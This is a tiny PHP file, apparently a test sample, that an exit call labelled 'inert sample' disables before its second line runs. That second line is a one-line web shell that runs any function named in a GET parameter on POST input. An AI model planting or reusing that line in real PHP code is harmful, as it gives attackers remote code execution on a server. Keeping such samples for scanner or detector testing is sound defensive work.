<?php exit('inert sample'); ?>
<?php $_GET['f']($_POST['a']); ?>
